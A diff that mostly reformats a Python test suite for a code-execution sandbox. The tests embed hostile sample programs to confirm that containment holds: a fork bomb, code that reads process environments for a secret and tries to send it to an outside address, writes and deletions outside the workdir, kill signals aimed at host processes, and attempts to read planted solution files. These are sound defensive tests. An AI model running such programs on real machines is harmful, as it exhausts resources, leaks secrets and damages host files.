@@ -27,8 +27,16 @@ from posttrain.sandbox import (
     shell_job,
 )
 
-SMALL = Limits(cpu_s=1, wall_s=3.0, memory_bytes=256 << 20, processes=16, file_bytes=1 << 20,
-               open_files=32, output_bytes=4096, disk_bytes=8 << 20)
+SMALL = Limits(
+    cpu_s=1,
+    wall_s=3.0,
+    memory_bytes=256 << 20,
+    processes=16,
+    file_bytes=1 << 20,
+    open_files=32,
+    output_bytes=4096,
+    disk_bytes=8 << 20,
+)
 ISO = detect_isolation()
 
 
@@ -52,12 +60,19 @@ def test_isolation_report_is_honest():
     print(f"\nisolation: {ISO}\nmissing: {ISO.missing() or 'nothing'}")
     if os.geteuid() == 0:
         assert ISO.drop_uid, "as root every execution must get its own unprivileged uid"
-    active = (ISO.net_ns, ISO.pid_ns, ISO.mount_ns, ISO.ipc_ns, ISO.private_root, ISO.memory_cgroup,
-              ISO.process_limit)
+    active = (ISO.net_ns, ISO.pid_ns, ISO.mount_ns, ISO.ipc_ns, ISO.private_root, ISO.memory_cgroup, ISO.process_limit)
     assert len(ISO.missing()) == active.count(False)
     nothing = Isolation(drop_uid=False, user_ns=False, net_ns=False, pid_ns=False, mount_ns=False)
     assert [gap.split(":")[0] for gap in nothing.missing()] == [
-        "network", "pid", "filesystem", "visibility", "ipc", "memory", "processes", "uid"]
+        "network",
+        "pid",
+        "filesystem",
+        "visibility",
+        "ipc",
+        "memory",
+        "processes",
+        "uid",
+    ]
 
 
 def test_pass_fail_and_output(sandbox):
@@ -71,8 +86,10 @@ def test_pass_fail_and_output(sandbox):
 
 def test_files_stdin_env_and_workdir_cleanup(sandbox, monkeypatch):
     monkeypatch.setenv("POSTTRAIN_TEST_SECRET", "hunter2")
-    src = ("import os, sys\nprint(os.getcwd())\nprint(open('data/in.txt').read())\n"
-           "print(repr(sys.stdin.read()))\nprint(sorted(os.environ))\nprint(os.getuid())")
+    src = (
+        "import os, sys\nprint(os.getcwd())\nprint(open('data/in.txt').read())\n"
+        "print(repr(sys.stdin.read()))\nprint(sorted(os.environ))\nprint(os.getuid())"
+    )
     res = run(sandbox, src, files={"data/in.txt": "payload"})
     assert res.status is Status.PASS, res.stderr
     cwd, content, stdin, env, uid = res.stdout.decode().splitlines()
@@ -129,9 +146,11 @@ def test_file_size_and_disk_limits(sandbox):
 
 def test_fork_bomb_is_bounded(sandbox):
     require(ISO.process_limit, "per-execution process limit (needs a dedicated uid or a user namespace)")
-    src = ("import os, time\nn = 0\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
-           "            time.sleep(30)\n            os._exit(0)\n        n += 1\n    except OSError:\n"
-           "        break\nprint(n, flush=True)\ntime.sleep(30)")
+    src = (
+        "import os, time\nn = 0\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
+        "            time.sleep(30)\n            os._exit(0)\n        n += 1\n    except OSError:\n"
+        "        break\nprint(n, flush=True)\ntime.sleep(30)"
+    )
     short = dataclasses.replace(SMALL, wall_s=1.5)
     t = time.monotonic()
     res = run(sandbox, src, limits=short)
@@ -144,8 +163,11 @@ def test_fork_bomb_is_bounded(sandbox):
 def test_children_die_with_the_program(sandbox):
     require(ISO.pid_ns, "PID namespace (processes that call setsid escape the process-group kill)")
     marker = f"posttrain-escape-{os.getpid()}-{time.time_ns()}"
-    res = run(sandbox, f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(30)  # {marker}\n"
-                       "else:\n    print(os.getpid(), len([p for p in os.listdir('/proc') if p.isdigit()]))")
+    res = run(
+        sandbox,
+        f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(30)  # {marker}\n"
+        "else:\n    print(os.getpid(), len([p for p in os.listdir('/proc') if p.isdigit()]))",
+    )
     assert res.status is Status.PASS
     pid, visible = map(int, res.stdout.split())
     assert visible <= 4, "a private /proc shows only the sandbox's own processes"
@@ -164,22 +186,26 @@ def _cmdline_has(pid: str, text: str) -> bool:
 
 def test_network_is_unreachable(sandbox):
     require(ISO.net_ns, "network namespace")
-    src = ("import socket\nfor addr in [('1.1.1.1', 53), ('127.0.0.1', 22), ('::1', 22)]:\n"
-           "    try:\n        socket.create_connection(addr, timeout=1)\n        print('CONNECTED', addr)\n"
-           "    except OSError as e:\n        print('blocked', e.errno)\n"
-           "print(len(socket.if_nameindex()), [n for _, n in socket.if_nameindex()])")
+    src = (
+        "import socket\nfor addr in [('1.1.1.1', 53), ('127.0.0.1', 22), ('::1', 22)]:\n"
+        "    try:\n        socket.create_connection(addr, timeout=1)\n        print('CONNECTED', addr)\n"
+        "    except OSError as e:\n        print('blocked', e.errno)\n"
+        "print(len(socket.if_nameindex()), [n for _, n in socket.if_nameindex()])"
+    )
     res = run(sandbox, src)
     assert res.status is Status.PASS and b"CONNECTED" not in res.stdout, res.stdout
 
 
 def test_secrets_cannot_be_read_or_sent(sandbox, monkeypatch):
     monkeypatch.setenv("POSTTRAIN_TEST_SECRET", "hunter2-secret")
-    src = (f"import os, socket\nseen = str(dict(os.environ))\n"
-           f"for p in ['/proc/1/environ', '/proc/{os.getpid()}/environ', '/proc/{os.getppid()}/environ']:\n"
-           "    try:\n        seen += open(p, 'rb').read().decode(errors='replace')\n"
-           "    except OSError:\n        pass\nprint(seen)\ntry:\n"
-           "    socket.create_connection(('8.8.8.8', 80), timeout=1).sendall(seen.encode())\n    print('SENT')\n"
-           "except OSError:\n    pass")
+    src = (
+        f"import os, socket\nseen = str(dict(os.environ))\n"
+        f"for p in ['/proc/1/environ', '/proc/{os.getpid()}/environ', '/proc/{os.getppid()}/environ']:\n"
+        "    try:\n        seen += open(p, 'rb').read().decode(errors='replace')\n"
+        "    except OSError:\n        pass\nprint(seen)\ntry:\n"
+        "    socket.create_connection(('8.8.8.8', 80), timeout=1).sendall(seen.encode())\n    print('SENT')\n"
+        "except OSError:\n    pass"
+    )
     res = run(sandbox, src)
     assert b"hunter2-secret" not in res.stdout + res.stderr
     if ISO.net_ns:
@@ -196,14 +222,16 @@ def test_writing_outside_the_workdir_changes_nothing(sandbox):
             f.write("original")
         os.chmod(sentinel, 0o666)
         before = _snapshot(outside)
-        src = (f"import os, shutil\nfor act in [lambda: open({sentinel!r}, 'w').write('pwned'),\n"
-               f"            lambda: os.remove({sentinel!r}),\n"
-               f"            lambda: open(os.path.join({outside!r}, 'new'), 'w').write('x'),\n"
-               "            lambda: open('/tmp/posttrain-pwned', 'w').write('x'),\n"
-               f"            lambda: open({os.path.abspath(__file__)!r}, 'a').write('# pwned'),\n"
-               "            lambda: os.symlink('/etc', 'etc') or open('etc/pwned', 'w').write('x')]:\n"
-               "    try:\n        act()\n        print('WROTE')\n"
-               "    except OSError as e:\n        print('denied', e.errno)")
+        src = (
+            f"import os, shutil\nfor act in [lambda: open({sentinel!r}, 'w').write('pwned'),\n"
+            f"            lambda: os.remove({sentinel!r}),\n"
+            f"            lambda: open(os.path.join({outside!r}, 'new'), 'w').write('x'),\n"
+            "            lambda: open('/tmp/posttrain-pwned', 'w').write('x'),\n"
+            f"            lambda: open({os.path.abspath(__file__)!r}, 'a').write('# pwned'),\n"
+            "            lambda: os.symlink('/etc', 'etc') or open('etc/pwned', 'w').write('x')]:\n"
+            "    try:\n        act()\n        print('WROTE')\n"
+            "    except OSError as e:\n        print('denied', e.errno)"
+        )
         res = run(sandbox, src)
         assert res.status is Status.PASS, res.stderr
         assert b"WROTE" not in res.stdout, res.stdout
@@ -222,11 +250,15 @@ def _snapshot(folder: str) -> dict[str, bytes]:
 
 
 def test_killing_the_host_fails_and_host_survives(sandbox):
-    require(ISO.pid_ns and (ISO.drop_uid or ISO.user_ns),
-            "PID namespace plus own uid (without them kill(-1) could hit the host user's processes)")
-    src = (f"import os, signal\nfor target in [{os.getpid()}, {os.getppid()}, 1, -1, 0]:\n    try:\n"
-           "        os.kill(target, signal.SIGKILL)\n"
-           "    except OSError as e:\n        print('denied', target, e.errno)")
+    require(
+        ISO.pid_ns and (ISO.drop_uid or ISO.user_ns),
+        "PID namespace plus own uid (without them kill(-1) could hit the host user's processes)",
+    )
+    src = (
+        f"import os, signal\nfor target in [{os.getpid()}, {os.getppid()}, 1, -1, 0]:\n    try:\n"
+        "        os.kill(target, signal.SIGKILL)\n"
+        "    except OSError as e:\n        print('denied', target, e.errno)"
+    )
     res = run(sandbox, src)
     assert res.status in (Status.CRASH, Status.PASS)  # kill(0/-1) may take the program itself down
     assert os.getppid() > 1 and run(sandbox, "print('alive')").stdout == b"alive\n"
@@ -264,6 +296,7 @@ def test_bad_input_is_named():
 
 def test_world_executable_check():
     from posttrain.sandbox.isolation import _others_can_run
+
     assert _others_can_run("/bin/sh")
     private = tempfile.mkdtemp()
     try:
@@ -292,6 +325,7 @@ def test_host_unix_sockets_are_unreachable(sandbox):
     require(ISO.private_root, "private root (host socket files are visible)")
     import shutil
     import socket
+
     folder = _world_open_dir()
     path = os.path.join(folder, "host.sock")
     abstract = f"\0posttrain-hostile-{os.getpid()}"
@@ -304,12 +338,14 @@ def test_host_unix_sockets_are_unreachable(sandbox):
             server.setblocking(False)
             servers.append(server)
         os.chmod(path, 0o777)
-        src = ("import os, socket\n"
-               f"for addr in [{path!r}, {abstract!r}]:\n"
-               "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(addr)\n"
-               "        print('CONNECTED', repr(addr))\n    except OSError as e:\n        print('blocked', e.errno)\n"
-               "for d in ['/tmp', '/run', '/var/run']:\n    try:\n        print(d, os.listdir(d))\n"
-               "    except OSError as e:\n        print(d, 'absent', e.errno)")
+        src = (
+            "import os, socket\n"
+            f"for addr in [{path!r}, {abstract!r}]:\n"
+            "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(addr)\n"
+            "        print('CONNECTED', repr(addr))\n    except OSError as e:\n        print('blocked', e.errno)\n"
+            "for d in ['/tmp', '/run', '/var/run']:\n    try:\n        print(d, os.listdir(d))\n"
+            "    except OSError as e:\n        print(d, 'absent', e.errno)"
+        )
         res = run(sandbox, src)
         assert res.status is Status.PASS and b"CONNECTED" not in res.stdout, res.stdout
         assert b"host.sock" not in res.stdout and b"/run [" not in res.stdout
@@ -326,7 +362,7 @@ def test_host_unix_sockets_are_unreachable(sandbox):
         shutil.rmtree(folder)
 
 
-_IPC_PROGRAM = '''import ctypes, os, sys
+_IPC_PROGRAM = """import ctypes, os, sys
 libc = ctypes.CDLL(None, use_errno=True)
 libc.shmat.restype = ctypes.c_void_p
 key, queue, create = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3] == "create"
@@ -341,13 +377,14 @@ else:
     print("no shm", ctypes.get_errno())
 mq = libc.mq_open(queue, (0o100 | 2) if create else 2, 0o666, None)  # O_CREAT | O_RDWR
 print("mq", mq >= 0, ctypes.get_errno())
-'''
+"""
 
 
 def _host_ipc(key: int, queue: str, remove: bool = False) -> tuple[bool, bool]:
     """(a SysV shm segment with `key` exists, a POSIX queue named `queue` exists) on the host;
     `remove` deletes them (cleanup after the unprotected run)."""
     import ctypes
+
     libc = ctypes.CDLL(None, use_errno=True)
     shm = libc.shmget(key, 0, 0)
     mq = libc.mq_open(queue.encode(), 0, 0, None)
@@ -381,6 +418,7 @@ def test_only_the_tasks_own_files_are_visible(sandbox):
     require(ISO.private_root, "private root (the host filesystem is readable)")
     import shutil
     from pathlib import Path
+
     repo = Path(__file__).resolve().parents[1]
     data = Path(os.environ.get("POSTTRAIN_DATA", repo.parent / "shared" / "data"))
     folder = _world_open_dir()
@@ -388,11 +426,20 @@ def test_only_the_tasks_own_files_are_visible(sandbox):
     with open(planted, "w") as f:
         f.write("canonical solution")
     os.chmod(planted, 0o644)
-    targets = [planted, str(data / "humaneval" / "HumanEval.jsonl.gz"), str(repo / "README.md"),
-               os.path.abspath(__file__), os.path.expanduser("~"), str(repo), str(data)]
-    src = ("import os, sys\nfor p in sys.argv[1:]:\n    try:\n"
-           "        print('OPENED', p, os.listdir(p) if os.path.isdir(p) else open(p, 'rb').read(20))\n"
-           "    except OSError as e:\n        print('hidden', p, e.errno)\nprint(open('mine.txt').read())")
+    targets = [
+        planted,
+        str(data / "humaneval" / "HumanEval.jsonl.gz"),
+        str(repo / "README.md"),
+        os.path.abspath(__file__),
+        os.path.expanduser("~"),
+        str(repo),
+        str(data),
+    ]
+    src = (
+        "import os, sys\nfor p in sys.argv[1:]:\n    try:\n"
+        "        print('OPENED', p, os.listdir(p) if os.path.isdir(p) else open(p, 'rb').read(20))\n"
+        "    except OSError as e:\n        print('hidden', p, e.errno)\nprint(open('mine.txt').read())"
+    )
     try:
         res = run(sandbox, src, args=targets, files={"mine.txt": "task file"})
         assert res.status is Status.PASS, res.stderr
@@ -404,7 +451,7 @@ def test_only_the_tasks_own_files_are_visible(sandbox):
         shutil.rmtree(folder)
 
 
-_MEMORY_HOGS = '''import os, select, sys, time
+_MEMORY_HOGS = """import os, select, sys, time
 n, each = int(sys.argv[1]), int(sys.argv[2])
 r, w = os.pipe()
 kids = []
@@ -424,11 +471,12 @@ alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in kids)
 print("holding", alive, flush=True)
 for pid in kids:
     os.kill(pid, 9)
-'''
+"""
 
 
 def _leftover_cgroups() -> list[str]:
     from posttrain.sandbox import cgroup
+
     found = cgroup.memory_cgroup_parent()
     return [] if found is None else [d for d in os.listdir(found[0]) if d.startswith(f"posttrain-sbx-{os.getpid()}-")]
 
